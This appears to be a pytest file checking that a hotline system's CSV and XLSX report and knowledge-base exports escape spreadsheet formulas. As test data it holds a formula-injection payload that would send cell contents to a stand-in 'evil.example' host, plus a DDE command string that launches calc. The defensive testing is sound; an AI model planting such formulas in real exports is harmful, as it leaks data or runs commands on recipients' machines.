"""Exported cells are shown as text, never run as formulas (issue 20, item 10)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from gateway.reports.render import render_csv, render_xlsx
from gateway.spreadsheet import safe_cell, unescape_cell
from kb.transfer import read_rows, write_rows

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", ["幸福路23号路灯坏了", "'quoted", "", -3, 2.5, None, True])
def test_other_values_are_kept(value: Any) -> None:
    assert safe_cell(value) == value


def _report() -> dict[str, Any]:
    return {"title": ATTACK, "period": "week", "start": "2026-11-09", "end": "2026-11-16",
            "volumes": {"total": 3, "previous_total": 1, "by_channel": [["phone", 3]],
                        "by_category": [["投诉", 3]], "by_topic": [[ATTACK, 3]], "daily": [["11-09", 3]]},
            "kpis": {}, "top_issues": [{"topic": ATTACK, "count": 3, "previous": 1, "trend": 2}],
            "overdue": [{"number": "T1", "unit": "-water", "category": "投诉", "status": "dispatched",
                         "due_at": "2026-11-10", "days_overdue": 2, "summary": "@" + ATTACK}]}


def test_report_csv_cells_are_escaped() -> None:
    cells = [c for row in csv.reader(io.StringIO(render_csv(_report()))) for c in row]
    assert "'" + ATTACK in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_report_xlsx_has_no_formula() -> None:
    book = load_workbook(io.BytesIO(render_xlsx(_report())))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + ATTACK in {c.value for c in cells}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_kb_export_escapes_and_its_import_reads_back_what_was_typed(fmt: str) -> None:
    row = {"id": "e1", "question": ATTACK, "answer": "-先拨打12345", "alternatives": [], "basis_document": "规范",
           "basis_article": None, "unit_id": "water", "region": "庆阳市", "is_public": True, "tags": [],
           "effective_at": "2026-01-01", "expires_at": None}
    data = write_rows([row], fmt)
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    else:
        assert b"'=HYPERLINK" in data
    [(_, back)] = read_rows(data, fmt)
    assert (back["question"], back["answer"]) == (ATTACK, "-先拨打12345")
